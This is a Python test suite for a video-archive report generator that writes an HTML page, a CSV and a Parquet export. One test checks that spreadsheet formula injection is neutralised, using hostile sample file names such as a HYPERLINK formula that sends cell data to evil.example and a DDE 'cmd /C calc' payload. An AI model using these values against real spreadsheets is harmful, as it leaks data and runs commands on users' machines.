"""``dramapic report``: a self-contained HTML page with inline SVG charts, a CSV (and Parquet) export, from an
archive database or from one run's JSON; and the page really rendered by a headless Chromium."""

from __future__ import annotations

import csv
import os
import re
import shutil
import struct
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from dramapic import media
from dramapic.errors import InputError, OutputError
from dramapic.archive.report import CSV_COLUMNS, LABEL_COLOURS, load_report_data, parquet_available, write_report
from dramapic.archive.store import DB_NAME, Store
from dramapic.writers import get_writer
from helpers import REPO, make_archive_result as make_result, make_record

CHARTS = {"composition", "genres", "gender-overall", "gender-per-video", "speakers-histogram", "speakers-per-video",
          "composition-per-video"}
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")


@pytest.fixture
def archive_out(tmp_path) -> Path:
    """An output folder whose database holds four analysed videos and one failure."""
    out = tmp_path / "out"
    out.mkdir()
    with Store.open(out / DB_NAME) as store:
        batch = store.begin_batch(archive="/archive", engine="local", workers=2, options={})
        store.record(make_record("s1/ep01.mp4", result=make_result("ep01.mp4", genre="drama", speakers=3),
                                 seconds=12.0), batch_id=batch)
        store.record(make_record("s1/ep02.mp4", result=make_result("ep02.mp4", duration=90.0, genre="interview",
                                                                   female=0.8, audio_track=1, audio_channel="right"),
                                 seconds=30.0), batch_id=batch)
        store.record(make_record("s2/<b>odd & name</b>.mp4", result=make_result("x.mp4", genre="music_show",
                                                                                song=0.35, speakers=1)),
                     batch_id=batch)
        store.record(make_record("s2/ep04.mkv", result=make_result("ep04.mkv", genre="drama", female=0.0)),
                     batch_id=batch)
        store.record(make_record("s2/broken.mp4", status="failed",
                                 error="broken.mp4 is not a media file ffmpeg can read"), batch_id=batch)
        store.end_batch(batch, status="finished", done=4, skipped=0, failed=1, audio_seconds=270.0)
    return out


def test_report_of_an_archive_is_self_contained_with_every_chart(archive_out):
    outputs = write_report(archive_out)
    assert outputs.html == archive_out / "report.html" and outputs.csv == archive_out / "report.csv"
    page = outputs.html.read_text(encoding="utf-8")
    # nothing is fetched: no external script, style sheet, image, font or link
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page, re.I)
    assert "@import" not in page and "<link" not in page and "<img" not in page and "url(" not in page
    assert re.findall(r"<script[^>]*>", page) == ["<script>"]
    figures = dict(re.findall(r'<figure class="chart" data-chart="([^"]+)" data-bars="(\d+)"', page))
    assert set(figures) == CHARTS and all(int(n) > 0 for n in figures.values())
    assert page.count("<svg") == len(CHARTS)
    assert "&lt;b&gt;odd &amp; name&lt;/b&gt;.mp4" in page and "<b>odd" not in page  # paths are escaped
    for section in ("Archive totals", "Genre mix", "Female and male speaking time", "Speakers per video",
                    "Composition per video", "Slowest files", "Failed files (1)"):
        assert section in page
    assert "broken.mp4 is not a media file" in page and "s1/ep02.mp4" in page
    # the slowest file comes first in its table
    slowest = page[page.index('id="slowest"'):page.index('id="failed"')]
    assert slowest.index("s1/ep02.mp4") < slowest.index("s1/ep01.mp4")


def test_speaker_bars_read_as_counts_and_gender_bars_as_durations(archive_out):
    page = write_report(archive_out).html.read_text(encoding="utf-8")

    def tooltips(chart):
        figure = page[page.index(f'data-chart="{chart}"'):]
        figure = figure[:figure.index("</figure>")]
        return re.findall(r"<rect class=\"bar\"[^>]*><title>([^<]+)</title>", figure)

    # ep01 was recorded with 3 speakers: its bar says "3", not "3.0 s"
    speakers = tooltips("speakers-per-video")
    assert "s1/ep01.mp4: speakers 3" in speakers, speakers
    assert not any(t.endswith(" s") for t in speakers), speakers
    assert any(t.startswith("s1/ep02.mp4: female ") and t.endswith(" s") for t in tooltips("gender-per-video"))


def test_csv_and_parquet_have_one_row_per_video(archive_out):
    outputs = write_report(archive_out)
    with open(outputs.csv, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 5
    by_path = {r["path"]: r for r in rows}
    assert by_path["s2/broken.mp4"]["status"] == "failed" and by_path["s2/broken.mp4"]["voice"] == ""
    ep02 = by_path["s1/ep02.mp4"]
    assert (ep02["genre"], ep02["speakers"], float(ep02["duration_s"])) == ("interview", "2", 90.0)
    assert float(ep02["female_s"]) == pytest.approx(0.8 * 54.0) and float(ep02["processing_s"]) == 30.0
    # which sound each row describes (ep02: the right channel of its second track); not known for ep01, whose run
    # did not record it, and nothing analysed for the failed file
    assert [(by_path[p]["audio_track"], by_path[p]["audio_channel"]) for p in ("s1/ep02.mp4", "s1/ep01.mp4",
                                                                                "s2/broken.mp4")] == \
        [("1", "right"), ("", ""), ("", "")]
    if parquet_available():
        import pyarrow.parquet as pq

        table = pq.read_table(outputs.parquet)
        assert table.num_rows == 5 and tuple(table.column_names) == CSV_COLUMNS
        parquet = {row["path"]: row for row in table.to_pylist()}
        assert (parquet["s1/ep02.mp4"]["audio_track"], parquet["s1/ep02.mp4"]["audio_channel"]) == (1, "right")
        assert (parquet["s1/ep01.mp4"]["audio_track"], parquet["s1/ep01.mp4"]["audio_channel"]) == (None, None)
    else:
        assert outputs.parquet is None and not (archive_out / "report.parquet").exists()


def test_a_video_without_diarization_is_not_counted_as_zero_speakers(archive_out):
    data = make_result("ep05.mp4", genre="drama").to_dict()
    data["summary"]["speakers"] = None
    for segment in data["segments"]:
        segment["speaker"] = None
    from dramapic.result import AnalysisResult

    with Store.open(archive_out / DB_NAME) as store:
        store.record(make_record("s3/ep05.mp4", key="k5", result=AnalysisResult.from_dict(data)), batch_id=None)
    outputs = write_report(archive_out)
    page = outputs.html.read_text(encoding="utf-8")
    # their speakers are told apart inside (gender is decided per speaker), only the ids are not kept
    assert "1 video(s) analysed without speaker ids (--no-speakers) are not counted" in page
    assert "speakers (summed over the videos with speaker ids)" in page and "diarization" not in page
    videos = page[page.index('id="videos"'):]
    row = videos[videos.index("s3/ep05.mp4"):].split("</tr>")[0]
    assert "<td>–</td>" in row or ">–<" in row, row
    with open(outputs.csv, newline="", encoding="utf-8-sig") as handle:
        by_path = {r["path"]: r for r in csv.DictReader(handle)}
    assert by_path["s3/ep05.mp4"]["speakers"] == "" and by_path["s1/ep02.mp4"]["speakers"] == "2"


def test_report_of_a_single_run_json_through_the_cli(tmp_path):
    result = make_result("/videos/movie.mp4", genre="documentary")
    path = tmp_path / "movie.dramapic.json"
    get_writer("json").write(result, path)
    done = subprocess.run([sys.executable, "-m", "dramapic", "report", str(path)], capture_output=True, text=True,
                          cwd=REPO)
    assert done.returncode == 0, done.stderr
    assert str(tmp_path / "movie.report.html") in done.stdout and done.stderr == ""
    page = (tmp_path / "movie.report.html").read_text(encoding="utf-8")
    # one run gets its own page (tests/archive/test_run_report.py), not the archive layout
    assert "movie.mp4" in page and "documentary" in page and 'data-chart="timeline"' in page
    assert "Slowest files" not in page and "No failed files" not in page
    data = load_report_data(path)
    assert len(data.videos) == 1 and data.totals()["audio_hours"] == pytest.approx(60 / 3600)


def test_report_of_an_archive_an_older_dramapic_wrote_needs_no_batch_first(archive_out):
    import sqlite3

    db = sqlite3.connect(archive_out / DB_NAME)  # as schema 3 left it: no gender_known, no error_key
    db.executescript("ALTER TABLE summaries DROP COLUMN gender_known; ALTER TABLE runs DROP COLUMN error_key; "
                     "ALTER TABLE runs DROP COLUMN audio_track; ALTER TABLE runs DROP COLUMN audio_channel; "
                     "ALTER TABLE runs DROP COLUMN notes_json; "
                     "ALTER TABLE runs DROP COLUMN error_notes_json; ALTER TABLE runs DROP COLUMN gain_db; "
                     "ALTER TABLE files DROP COLUMN missing_since; PRAGMA user_version = 3;")
    db.close()
    done = subprocess.run([sys.executable, "-m", "dramapic", "report", str(archive_out)], capture_output=True,
                          text=True, cwd=REPO, check=False)
    assert done.returncode == 0 and done.stderr == "", done.stderr
    with open(archive_out / "report.csv", newline="", encoding="utf-8-sig") as handle:
        rows = {row["path"]: row for row in csv.DictReader(handle)}
    assert len(rows) == 5 and rows["s1/ep02.mp4"]["female_share"] == "0.8"
    assert rows["s2/broken.mp4"]["status"] == "failed"
    assert {row["gain_db"] for row in rows.values()} == {""}  # recorded before schema 11: not known


def test_bad_report_sources_are_refused(tmp_path):
    with pytest.raises(InputError, match="has no dramapic.sqlite"):
        write_report(tmp_path)
    (tmp_path / "notes.json").write_text('{"hello": 1}')
    with pytest.raises(InputError, match="not a dramapic/1 JSON"):
        write_report(tmp_path / "notes.json")
    (tmp_path / "dramapic.sqlite").write_bytes(b"garbage" * 100)
    with pytest.raises(OutputError):
        write_report(tmp_path)
    done = subprocess.run([sys.executable, "-m", "dramapic", "report", str(tmp_path / "missing")],
                          capture_output=True, text=True, cwd=REPO)
    assert done.returncode == 2 and done.stderr.startswith("dramapic: error: no such file or folder")


def test_a_folder_given_as_the_output_gets_the_report_inside_it(archive_out, tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    outputs = write_report(archive_out, output=reports, parquet=False)
    assert (outputs.html, outputs.csv) == (reports / "report.html", reports / "report.csv")
    assert outputs.html.is_file() and outputs.csv.is_file()
    assert not (tmp_path / "reports.html").exists()


def test_a_report_named_in_a_missing_folder_creates_it_and_a_failed_one_removes_it(archive_out, tmp_path,
                                                                                    monkeypatch, capsys):
    # `report -o missing/r.html` said "output directory does not exist" where `run -o` creates its folder
    from dramapic import cli
    from dramapic.archive import report

    target = tmp_path / "reports" / "2026" / "r.html"
    assert cli.main(["report", str(archive_out), "-o", str(target), "--no-parquet"]) == 0
    assert target.is_file() and target.with_suffix(".csv").is_file()
    assert str(target) in capsys.readouterr().out

    def full_disk(data):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(report, "render_csv", full_disk)
    assert cli.main(["report", str(archive_out), "-o", str(tmp_path / "new" / "deeper" / "r.html")]) != 0
    assert "No space left on device" in capsys.readouterr().err
    assert not (tmp_path / "new").exists()  # the folders it made are gone with the failed report
    (tmp_path / "file").write_text("x")
    assert cli.main(["report", str(archive_out), "-o", str(tmp_path / "file" / "r.html")]) != 0
    assert "is an existing file" in capsys.readouterr().err


def test_a_missing_folder_given_as_the_output_with_a_slash_gets_the_report_inside_it(archive_out, tmp_path, capsys):
    # "-o reports/" wrote reports.html beside it: the slash that says "a folder" was dropped with the Path
    from dramapic import cli

    assert cli.main(["report", str(archive_out), "-o", f"{tmp_path / 'reports'}/", "--no-parquet"]) == 0
    assert (tmp_path / "reports" / "report.html").is_file() and (tmp_path / "reports" / "report.csv").is_file()
    assert not (tmp_path / "reports.html").exists()


def test_a_huge_archive_gives_a_page_of_bounded_size(monkeypatch):
    # the charts and both tables stop at MAX_ROWS videos (the CSV has all): a page of a row per file of an archive
    # of a million files would be hundreds of megabytes
    from dramapic.archive import report
    from dramapic.archive.report import ReportData, render_csv, render_html
    from dramapic.archive.store import VideoRecord

    monkeypatch.setattr(report, "MAX_ROWS", 3)
    videos = tuple(VideoRecord(path=f"ep{i:02d}.mp4", status="done", duration=60.0, shares={"voice": 1.0},
                               n_speakers=1, genre="drama", seconds=5.0) for i in range(8))
    videos += tuple(VideoRecord(path=f"bad{i:02d}.mp4", status="failed", error="broken") for i in range(8))
    data = ReportData(title="big", source="/out", videos=videos)
    page = render_html(data)
    for section, name in (("videos", "ep"), ("failed", "bad")):
        body = re.search(rf'<section id="{section}">(.*?)</section>', page).group(1)
        assert re.findall(rf"<td>({name}\d+)\.mp4</td>", body) == [f"{name}00", f"{name}01", f"{name}02"]
        assert "showing the first 3 of 8 videos" in body
    assert "All videos (8)" in page and "Failed files (8)" in page
    assert len(render_csv(data).splitlines()) == 1 + 16


@pytest.mark.parametrize("failed", [0, 2])
def test_an_archive_with_nothing_analysed_yet_says_so(failed):
    # an empty database, or one of failures only: the slowest files' place said "a single run's JSON does not carry
    # them", of an archive's database, which is no run's JSON
    from dramapic.archive.report import ReportData, render_html
    from dramapic.archive.store import VideoRecord

    videos = tuple(VideoRecord(path=f"bad{i}.mp4", status="failed", error="broken") for i in range(failed))
    page = render_html(ReportData(title="t", source="/out", videos=videos))
    slowest = re.search(r'<section id="slowest">(.*?)</section>', page).group(1)
    assert "JSON" not in slowest and "No file has been analysed yet" in slowest, slowest
    assert f"Failed files ({failed})" in page


@pytest.mark.parametrize("path", ["드라마/시즌1/사랑의 불시착 제1화 리마스터 감독판.mp4", "季节一/爱的迫降第一集导演剪辑版本高清.mp4",
                                  "season1/episode one, the director's cut.mp4"])
def test_a_long_name_in_a_chart_fits_its_label_column(path):
    # a row's label is cut to fit the 250 px left of the bars, counted in characters: a Korean or Chinese name
    # (each character about twice a Latin one's width) was cut too little, and ran past the chart's left edge, its
    # start and the "…" that says it was cut lost there
    import html
    import unicodedata

    from dramapic.archive.report import stacked_rows_svg

    svg, _ = stacked_rows_svg([(path, {"voice": 1.0}, "1 s")], {"voice": "#000"})
    shown = html.unescape(re.search(r"</title>([^<]*)</text>", svg).group(1))
    widths = sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in shown)
    assert shown.startswith("…") and widths <= 38, (shown, widths)
    assert path.endswith(shown[1:])


def test_a_report_removes_what_a_killed_report_left_behind(archive_out):
    # a report killed half-way (SIGKILL: no cleanup runs) leaves its temporaries; the next report removes them
    script = ("import os, sys\nfrom pathlib import Path\nfrom dramapic.writers import OutputSet\n"
              "outputs = OutputSet(overwrite=True)\n"
              "for name in ('report.html', 'report.csv', 'report.parquet'):\n"
              "    outputs.reserve(Path(sys.argv[1]) / name).write_text('half written')\n"
              "os.kill(os.getpid(), 9)\n")
    killed = subprocess.run([sys.executable, "-c", script, str(archive_out)], cwd=REPO,
                            env={**os.environ, "PYTHONPATH": str(REPO)})
    assert killed.returncode == -9
    leftovers = sorted(p.name for p in archive_out.glob(".report.*"))
    assert len(leftovers) == 3, leftovers
    write_report(archive_out, parquet=False)
    assert sorted(p.name for p in archive_out.iterdir() if p.name.startswith(".")) == []
    assert (archive_out / "report.html").is_file()


# -- a real browser --------------------------------------------------------------------------------------------

def _browser() -> str:
    for name in BROWSERS:
        found = shutil.which(name)
        if found:
            return found
    pytest.skip("no headless Chromium on PATH (Debian: apt-get install chromium); the browser check is skipped")


def _chromium(browser: str, profile: Path, *args: str) -> subprocess.CompletedProcess:
    command = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
               "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-extensions",
               f"--user-data-dir={profile}", "--window-size=1280,2000", *args]
    return subprocess.run(command, capture_output=True, text=True, timeout=120)


def _png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    return struct.unpack(">II", data[16:24])


def _pixels(path: Path, width: int, height: int) -> np.ndarray:
    """The screenshot as RGB pixels, decoded by ffmpeg (no imaging library needed)."""
    done = media._run([media.ffmpeg_exe(), "-v", "error", "-i", str(path), "-f", "rawvideo", "-pix_fmt", "rgb24",
                       "-"], what="decode the screenshot")
    return np.frombuffer(done.stdout, dtype=np.uint8).reshape(height, width, 3)


def test_report_renders_in_headless_chromium(archive_out, tmp_path):
    browser = _browser()
    outputs = write_report(archive_out)
    url = outputs.html.resolve().as_uri()

    dom = _chromium(browser, tmp_path / "profile-dom", "--dump-dom", url)
    assert dom.returncode == 0, dom.stderr[-2000:]
    html = dom.stdout
    # the page's own check ran after layout: every chart has a size and all of its bars were drawn
    assert f'data-charts-rendered="{len(CHARTS)}/{len(CHARTS)}"' in html
    figures = re.findall(r"<figure ([^>]*)>", html)
    assert len(figures) == len(CHARTS)
    for attributes in figures:
        values = dict(re.findall(r'([\w-]+)="([^"]*)"', attributes))
        assert int(values["data-rendered-width"]) > 300 and int(values["data-rendered-height"]) > 10, values
        assert int(values["data-rendered-bars"]) == int(values["data-bars"]) > 0, values

    screenshot = tmp_path / "report.png"
    shot = _chromium(browser, tmp_path / "profile-shot", f"--screenshot={screenshot}", url)
    assert shot.returncode == 0 and screenshot.is_file(), shot.stderr[-2000:]
    artefacts = os.environ.get("DRAMAPIC_TEST_ARTIFACTS")
    if artefacts:  # CI can keep the screenshot
        Path(artefacts).mkdir(parents=True, exist_ok=True)
        shutil.copy(screenshot, Path(artefacts) / "report.png")
    width, height = _png_size(screenshot)
    assert (width, height) == (1280, 2000) and screenshot.stat().st_size > 20_000
    pixels = _pixels(screenshot, width, height).reshape(-1, 3).astype(int)
    for label in ("voice", "song", "silence"):  # the composition bars' colours are on screen
        colour = np.array([int(LABEL_COLOURS[label][i:i + 2], 16) for i in (1, 3, 5)])
        assert (np.abs(pixels - colour).sum(axis=1) < 30).sum() > 500, f"no {label} bars in the screenshot"


def test_csv_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(archive_out):
    # an archive file may be named anything, and an error message may quote it: a cell starting with = + - @ (or a
    # tab / CR) runs as a formula when report.csv is opened in a spreadsheet; it gets a leading ' (OWASP)
    dangerous = ["=HYPERLINK(\"http://evil.example/\"&A1).mp4", "+cmd|' /C calc'!A0.mp4", "-2+3.mp4",
                 "@SUM(1+1).mp4", "\t=1+1.mp4", "\r=1+1.mp4", "\uff1d1+1.mp4"]
    with Store.open(archive_out / DB_NAME) as store:
        for index, path in enumerate(dangerous):
            store.record(make_record(path, key=f"f{index}", result=make_result(path)), batch_id=None)
        store.record(make_record("=bad.mp4", key="fb", status="failed", error="-ERR @x =1"), batch_id=None)
    outputs = write_report(archive_out, parquet=False)
    with open(outputs.csv, newline="", encoding="utf-8-sig") as handle:
        rows = {r["path"]: r for r in csv.DictReader(handle)}
    for path in dangerous:
        row = rows["'" + path]  # neutralised, otherwise unchanged
        assert float(row["duration_s"]) == 60.0 and row["speakers"] == "2" and row["genre"] == "drama"
    assert rows["'=bad.mp4"]["error"] == "'-ERR @x =1"
    assert rows["s1/ep01.mp4"]["path"] == "s1/ep01.mp4"  # ordinary text untouched
    # no cell of the file starts a formula; numbers (a negative one included) are left as numbers
    for row in rows.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    from dramapic.archive.report import ReportData, render_csv
    from dramapic.archive.store import VideoRecord

    text = render_csv(ReportData(title="t", source="s", videos=(
        VideoRecord(path="a.mp4", status="done", duration=-1.5, genre_confidence=0.25),)))
    assert text.splitlines()[1].startswith("a.mp4,done,-1.5,")


class _NoWholeRead:
    """A file handle that refuses to be read whole or in a piece larger than ``limit`` bytes."""

    def __init__(self, handle, limit: int) -> None:
        self._handle, self._limit = handle, limit

    def read(self, size=-1):
        if size is None or size < 0 or size > self._limit:
            raise AssertionError(f"read {self._handle.name} whole (size {size})")
        return self._handle.read(size)

    def __getattr__(self, name):
        return getattr(self._handle, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self._handle.close()


def test_a_huge_file_that_is_not_a_run_json_is_refused_without_reading_it(tmp_path, monkeypatch):
    # a 2 GiB video (sparse: no disk used) given by mistake: its first bytes say it is no JSON, and a file that
    # starts like JSON but is larger than any run's JSON is refused by its size; neither is read whole
    from dramapic.archive import run_report

    video = tmp_path / "movie.mp4"
    with open(video, "wb") as handle:
        handle.write(b"\x00\x00\x00\x20ftypisom")
        handle.truncate(2**31)
    looks_like_json = tmp_path / "big.json"
    with open(looks_like_json, "wb") as handle:
        handle.write(b'  {"schema": "dramapic/1", "segments": [')
        handle.truncate(2**31)
    database = tmp_path / "out" / DB_NAME
    database.parent.mkdir()
    with Store.open(database) as store:
        store.record(make_record(), batch_id=None)

    real_open = Path.open
    monkeypatch.setattr(Path, "open", lambda self, *a, **k: _NoWholeRead(real_open(self, *a, **k), 1 << 20))
    with pytest.raises(InputError, match="movie.mp4 is not a dramapic JSON file .it does not start with a JSON"):
        write_report(video)
    with pytest.raises(InputError, match=r"big.json is not a dramapic JSON file \(2,048 MiB; a run's JSON is far "
                                         r"below 256 MiB\)"):
        write_report(looks_like_json)
    with pytest.raises(InputError, match="is an SQLite database, not a run's JSON: pass the output folder"):
        write_report(database)
    with pytest.raises(InputError, match="not a regular file"):
        load_report_data(Path(os.devnull))
    assert not list(tmp_path.glob("*report*")) and not list(tmp_path.glob(".*"))  # nothing written
    monkeypatch.undo()
    # a real run's JSON is still read (the cap is far above one)
    path = tmp_path / "run.dramapic.json"
    get_writer("json").write(make_result("/videos/run.mp4"), path)
    assert run_report.MAX_RUN_JSON_BYTES > 100 * path.stat().st_size
    assert load_report_data(path).run is not None


def test_a_video_analysed_without_gender_shows_a_dash_not_zero(archive_out, tmp_path):
    # --no-gender measured no gender: "–" in the page, empty cells in the CSV, out of the archive's gender totals
    with Store.open(archive_out / DB_NAME) as store:
        store.record(make_record("s3/ep05.mp4", key="k5", result=make_result("ep05.mp4", gender=False)),
                     batch_id=None)
    outputs = write_report(archive_out)
    page = outputs.html.read_text(encoding="utf-8")
    videos = page[page.index('id="videos"'):]
    row = videos[videos.index("s3/ep05.mp4"):].split("</tr>")[0]
    assert re.findall(r"<td[^>]*>([^<]*)</td>", row)[-2:] == ["–", "–"], row
    assert "1 video(s) analysed without gender (--no-gender) are not counted" in page
    assert "female share of speaking time with a known gender (of the videos analysed with gender)" in page
    per_video = page[page.index('data-chart="gender-per-video"'):]
    assert re.search(r'<title>s3/ep05.mp4</title>[^<]*</text><text class="value"[^>]*>–</text>', per_video)
    with open(outputs.csv, newline="", encoding="utf-8-sig") as handle:
        by_path = {r["path"]: r for r in csv.DictReader(handle)}
    gender_columns = ("female_share", "male_share", "female_s", "male_s", "unknown_s")
    assert [by_path["s3/ep05.mp4"][c] for c in gender_columns] == [""] * 5
    assert by_path["s3/ep05.mp4"]["speakers"] == "2" and by_path["s3/ep05.mp4"]["voice"] == "0.6"
    assert by_path["s1/ep01.mp4"]["female_share"] == "0.5"  # measured ones as before
    totals = load_report_data(archive_out).totals()
    assert totals["gender_measured"] == 4 and totals["female_seconds"] == pytest.approx(18 + 43.2 + 18 + 0)
    if parquet_available():
        import pyarrow.parquet as pq

        table = pq.read_table(outputs.parquet).to_pydict()
        index = table["path"].index("s3/ep05.mp4")
        assert [table[c][index] for c in gender_columns] == [None] * 5

    # an archive with no gender at all: no "0 %" anywhere for it
    only = tmp_path / "only"
    only.mkdir()
    with Store.open(only / DB_NAME) as store:
        store.record(make_record("a.mp4", result=make_result("a.mp4", gender=False)), batch_id=None)
    page = write_report(only, parquet=False).html.read_text(encoding="utf-8")
    cards = {label: value for value, label in re.findall(r"<b>([^<]*)</b><span>([^<]*)</span>", page)}
    assert cards["female share of speaking time with a known gender (of the videos analysed with gender)"] == "–"
    assert cards["of speaking time with gender unknown (of the videos analysed with gender)"] == "–"

    # one run's JSON made with --no-gender: its CSV row has empty gender cells too
    path = tmp_path / "film.dramapic.json"
    get_writer("json").write(make_result("/videos/film.mp4", gender=False), path)
    with open(write_report(path, parquet=False).csv, newline="", encoding="utf-8-sig") as handle:
        (row,) = list(csv.DictReader(handle))
    assert [row[c] for c in gender_columns] == [""] * 5


def test_an_unknown_genre_has_no_confidence_in_the_csv(tmp_path):
    """The JSON's genre is null (too little but silence to judge); the store keeps "unknown" with confidence 0,
    which the CSV wrote as 0.0: a measured zero, not "not judged". A judged genre keeps its confidence."""
    from dataclasses import replace

    quiet = make_result("quiet.mp4")
    quiet = replace(quiet, summary=replace(quiet.summary, genre=None))
    with Store.open(tmp_path / DB_NAME) as store:
        store.record(make_record("quiet.mp4", key="k1", result=quiet), batch_id=None)
        store.record(make_record("ep01.mp4", key="k2", result=make_result("ep01.mp4", genre="drama")), batch_id=None)
    outputs = write_report(tmp_path)
    rows = {r["path"]: r for r in csv.DictReader(outputs.csv.open(encoding="utf-8-sig", newline=""))}
    assert rows["quiet.mp4"]["genre"] == "unknown" and rows["quiet.mp4"]["genre_confidence"] == ""
    assert rows["ep01.mp4"]["genre"] == "drama" and float(rows["ep01.mp4"]["genre_confidence"]) > 0


def test_a_video_without_voice_of_known_gender_shows_dashes_not_zeros(tmp_path):
    """Gender on but no voice of known gender (a music show): both shares are 0 in the JSON and the store, and
    the videos table said "0%" female and "0%" male; it says "–" as the burned-in card says nothing."""
    from dataclasses import replace

    result = make_result("show.mp4")
    result = replace(result, summary=replace(result.summary, gender_shares={"female": 0.0, "male": 0.0}))
    with Store.open(tmp_path / DB_NAME) as store:
        store.record(make_record("show.mp4", key="k1", result=result), batch_id=None)
        store.record(make_record("ep01.mp4", key="k2", result=make_result("ep01.mp4", female=0.8)), batch_id=None)
    page = write_report(tmp_path).html.read_text(encoding="utf-8")
    videos = page[page.index('id="videos"'):]
    rows = dict(re.findall(r"<tr><td>([^<]+)</td>(.*?)</tr>", videos))
    assert rows["show.mp4"].endswith('<td class="num">–</td><td class="num">–</td>')
    assert rows["ep01.mp4"].endswith('<td class="num">80%</td><td class="num">20%</td>')


def test_a_video_s_shares_in_the_table_and_the_legend_add_up_to_100(tmp_path):
    """Each share was rounded on its own: the videos table read voice / song / noise / silence of 0.3333, 0.3333,
    0.3334 and 0 as 33 + 33 + 33 + 0 = 99 % and female 0.425 / male 0.575 as 42 + 57 = 99 %, the composition
    legend and its bar's tooltips the same 99 %. The CSV keeps the shares unrounded."""
    from dataclasses import replace

    result = make_result("thirds.mp4")
    result = replace(result, summary=replace(
        result.summary, shares={"voice": 0.3333, "song": 0.3333, "noise": 0.3334, "silence": 0.0},
        gender_shares={"female": 0.425, "male": 0.575}))
    with Store.open(tmp_path / DB_NAME) as store:
        store.record(make_record("thirds.mp4", key="k1", result=result), batch_id=None)
    outputs = write_report(tmp_path)
    page = outputs.html.read_text(encoding="utf-8")
    videos = page[page.index('id="videos"'):]
    row = dict(re.findall(r"<tr><td>([^<]+)</td>(.*?)</tr>", videos))["thirds.mp4"]
    assert re.findall(r'<td class="num">(\d+%)</td>', row) == ["33%", "33%", "34%", "0%", "42%", "58%"], row
    composition = page[page.index('id="composition"'):page.index('id="genres"')]
    assert re.findall(r"</i>(\w+ \d+%)</span>", composition) == ["voice 33%", "song 33%", "noise 34%", "silence 0%"]
    assert re.findall(r"<title>all videos: (\w+ \d+%)</title></rect>", composition) == [
        "voice 33%", "song 33%", "noise 34%"]
    (csv_row,) = csv.DictReader(outputs.csv.open(encoding="utf-8-sig", newline=""))
    assert float(csv_row["noise"]) == 0.3334 and float(csv_row["female_share"]) == 0.425


def test_a_video_without_voice_of_known_gender_has_empty_shares_in_the_csv(tmp_path):
    """The shares of no voice are not 0 % female and 0 % male: the CSV (and Parquet) wrote 0.0 and 0.0, which a
    spreadsheet's mean of female_share counted as a measured zero; the cells are empty, as the page's "–". Its
    seconds are measured zeros and stay 0.0."""
    from dataclasses import replace

    result = make_result("show.mp4")
    result = replace(result, summary=replace(result.summary, gender_shares={"female": 0.0, "male": 0.0}))
    with Store.open(tmp_path / DB_NAME) as store:
        store.record(make_record("show.mp4", key="k1", result=result), batch_id=None)
        store.record(make_record("ep01.mp4", key="k2", result=make_result("ep01.mp4", female=0.8)), batch_id=None)
    outputs = write_report(tmp_path)
    rows = {r["path"]: r for r in csv.DictReader(outputs.csv.open(encoding="utf-8-sig", newline=""))}
    assert (rows["show.mp4"]["female_share"], rows["show.mp4"]["male_share"]) == ("", "")
    assert float(rows["ep01.mp4"]["female_share"]) == pytest.approx(0.8)
    assert float(rows["ep01.mp4"]["male_share"]) == pytest.approx(0.2)
    if outputs.parquet is not None:
        import pyarrow.parquet as pq

        table = {r["path"]: r for r in pq.read_table(outputs.parquet).to_pylist()}
        assert (table["show.mp4"]["female_share"], table["show.mp4"]["male_share"]) == (None, None)


@pytest.mark.parametrize("seconds, shown", [(0.0, "0.0 s"), (59.9, "59.9 s"), (59.97, "1.0 min"), (60.0, "1.0 min"),
                                            (90.0, "1.5 min"), (3599.9, "1.00 h"), (3600.0, "1.00 h"),
                                            (5400.0, "1.50 h")])
def test_durations_never_read_60_of_a_smaller_unit(seconds, shown):
    from dramapic.archive.report import _hours

    assert _hours(seconds) == shown


def test_the_csv_opens_in_a_spreadsheet_with_korean_file_names_intact(tmp_path):
    """Excel reads a UTF-8 CSV without a byte-order mark in the machine's ANSI code page: a Korean drama archive's
    file names came out as mojibake. The CSV starts with the UTF-8 BOM; read as UTF-8-with-BOM the header's first
    column is "path", not "\\ufeffpath", and the names are intact."""
    with Store.open(tmp_path / DB_NAME) as store:
        store.record(make_record("드라마/1화.mp4", key="k1", result=make_result("1화.mp4")), batch_id=None)
    raw = write_report(tmp_path, parquet=False).csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    header, row = raw.decode("utf-8-sig").split("\r\n")[:2]
    assert header.split(",")[0] == "path" and row.startswith("드라마/1화.mp4,")


def test_a_source_or_report_path_that_is_not_utf8_is_refused_in_one_line(archive_out, tmp_path, capsys):
    # an output folder renamed on an old share (CP949): the page's title and pyarrow's path are UTF-8 text, and the
    # report ended in a UnicodeEncodeError traceback
    from dramapic import cli

    odd = os.fsdecode(os.fsencode(tmp_path) + b"/" + "드라마".encode("cp949"))
    shutil.copytree(archive_out, odd)
    assert cli.main(["report", odd]) == InputError.exit_code
    error = capsys.readouterr().err
    assert error.startswith("dramapic: error: ") and "not valid UTF-8" in error and len(error.splitlines()) == 1
    assert sorted(os.listdir(odd)) == [DB_NAME]

    report = odd + "-reports/report.html"
    assert cli.main(["report", str(archive_out), "-o", report]) == OutputError.exit_code
    error = capsys.readouterr().err
    assert "report's path is not valid UTF-8" in error and len(error.splitlines()) == 1
    assert not os.path.exists(os.path.dirname(report))


def test_report_csv_keeps_its_earlier_columns_where_they_were():
    # audio_track and audio_channel were inserted after duration_s, moving every later column one place for a
    # script that reads report.csv by position; columns added later go at the end
    assert CSV_COLUMNS[:21] == (
        "path", "status", "duration_s", "voice", "song", "noise", "silence", "female_share", "male_share", "female_s",
        "male_s", "unknown_s", "speakers", "genre", "genre_confidence", "processing_s", "realtime_factor", "worker",
        "attempts", "error_type", "error")
